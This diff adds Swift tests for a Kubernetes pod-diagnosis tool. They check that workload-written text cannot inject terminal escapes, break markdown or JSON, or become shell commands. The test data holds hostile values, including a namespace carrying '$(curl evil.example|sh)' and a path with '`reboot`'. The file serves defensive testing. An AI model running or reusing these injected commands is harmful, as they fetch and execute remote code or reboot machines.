@@ -1,0 +1,89 @@
+import Foundation
+import KubeModel
+import PodDiagnosis
+import PodDoctor
+import TestAPIServerHarness
+import Testing
+
+/// Text written by workloads (log lines, event messages, names) stays text: escape sequences are
+/// shown escaped, markdown cannot be broken out of, JSON stays valid, and nothing becomes a command.
+@Suite("Hostile text")
+struct HostileTextTests {
+    static let hostile = "boom \u{1B}]0;owned\u{07}\u{1B}[2J\u{1B}[31mred\u{1B}[0m \u{9B}31m \u{202E}txt.exe ```\n# heading\n| a | b |"
+
+    static var report: DiagnosisReport {
+        let finding = Finding(
+            cause: .appError, severity: .critical, confidence: .medium, container: "app`x",
+            title: "container app crashes: \(hostile)", explanation: "The log says \(hostile)",
+            evidence: [Evidence(source: "log", ref: "app (previous), line 3", text: hostile),
+                       Evidence(source: "event", ref: "Warning BackOff \u{1B}[1m", text: "msg\u{0}with NUL")],
+            fix: Fix(summary: "Fix \(hostile)", commands: ["kubectl logs web -c app"], yaml: "spec:\n  x: \"```\"\n  y: \u{1B}[31m\n"))
+        return DiagnosisReport(pods: [PodReport(namespace: "shop", name: "web-1\u{1B}[8m", status: "CrashLoopBackOff", restarts: 3,
+                                                owner: nil, findings: [finding])])
+    }
+
+    @Test func textShowsEscapeSequencesEscaped() {
+        let text = TextReport(color: false, width: 100).render(Self.report)
+        #expect(!text.unicodeScalars.contains { $0.value < 0x20 && $0 != "\n" }, "a raw control character reached the terminal")
+        #expect(!text.unicodeScalars.contains { (0x7F...0x9F).contains($0.value) || (0x202A...0x202E).contains($0.value) })
+        #expect(text.contains(#"\x1b[31mred"#))
+        #expect(text.contains(#"\u{202e}"#))
+        // With colour on, the only escape sequences are the renderer's own.
+        let colored = TextReport(color: true, width: 100).render(Self.report)
+        #expect(!colored.contains("\u{1B}]0;") && !colored.contains("\u{1B}[2J") && !colored.contains("\u{1B}[8m"))
+    }
+
+    @Test func markdownCannotBeBrokenOutOf() {
+        let markdown = MarkdownReport(showHealthy: true).render(Self.report)
+        #expect(!markdown.unicodeScalars.contains { $0.value < 0x20 && $0 != "\n" })
+        // The YAML holds ``` : its block is fenced with more backticks, so the block ends where it should.
+        #expect(markdown.contains("````yaml\n"))
+        let lines = markdown.split(separator: "\n", omittingEmptySubsequences: false)
+        #expect(!lines.contains { $0.hasPrefix("# heading") }, "a log line became a heading")
+        // A table cell keeps its row: pipes inside are escaped.
+        for line in lines where line.hasPrefix("| log |") { #expect(line.components(separatedBy: " | ").count == 3, "\(line)") }
+    }
+
+    @Test func jsonIsValidForAnyText() throws {
+        let json = ReportJSON.encode(Self.report)
+        let object = try #require(try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [String: Any])
+        let pods = try #require(object["pods"] as? [[String: Any]])
+        let finding = try #require((pods.first?["findings"] as? [[String: Any]])?.first)
+        let evidence = try #require(finding["evidence"] as? [[String: Any]])
+        #expect(evidence.first?["text"] as? String == Self.hostile, "JSON keeps the exact text")
+        // Invalid UTF-8 in a log is replaced when read, never passed through as broken bytes.
+        let bytes: [UInt8] = Array("line ".utf8) + [0xFF, 0xFE, 0xC3] + Array(" end".utf8)
+        let decoded = String(decoding: bytes, as: UTF8.self)
+        #expect(try JSONSerialization.jsonObject(with: Data(ReportJSON.encode(DiagnosisReport(pods: [PodReport(
+            namespace: "a", name: decoded, status: "Running", restarts: 0, owner: nil, findings: [])])).utf8)) is [String: Any])
+    }
+
+    /// A namespace, pod and log path written by a workload cannot turn a suggested command into `$(...)`.
+    @Test func valuesFromTheClusterAreQuotedInCommands() throws {
+        let folder = TestAPIServer.repositoryPath("Tests/Fixtures/scenarios/09-missing-entry-file-node")
+        let scenario = try ScenarioFolder("09-missing-entry-file-node")
+        var text = try String(contentsOfFile: folder + "/objects.json", encoding: .utf8)
+        let namespace = scenario.expected.pod.namespace
+        let evil = "\(namespace)$(curl evil.example|sh)"
+        text = text.replacingOccurrences(of: "\"namespace\": \"\(namespace)\"", with: "\"namespace\": \"\(evil)\"")
+        var objects = try ObjectSet.decode(json: Data(text.utf8))
+        let logs = try SnapshotReader().read([folder]).objects.logs
+        for (key, value) in logs {
+            objects.logs[ObjectSet.LogKey(namespace: evil, pod: key.pod, container: key.container, previous: key.previous)] =
+                value.replacingOccurrences(of: "/app/server.js", with: "/app/`reboot`/server.js")
+        }
+        let report = PodDoctor.diagnose(objects, now: scenario.now, podName: scenario.expected.pod.name)
+        let commands = report.pods.flatMap(\.findings).flatMap(\.fix.commands)
+        #expect(commands.contains { $0.contains("'\(evil)'") }, "\(commands)")
+        for command in commands {
+            // Every occurrence of a hostile value is inside single quotes (an odd number of quotes before it).
+            for value in [evil, "`reboot`"] {
+                var searchFrom = command.startIndex
+                while let range = command.range(of: value, range: searchFrom..<command.endIndex) {
+                    #expect(command[..<range.lowerBound].filter { $0 == "'" }.count % 2 == 1, "unquoted in: \(command)")
+                    searchFrom = range.upperBound
+                }
+            }
+        }
+    }
+}
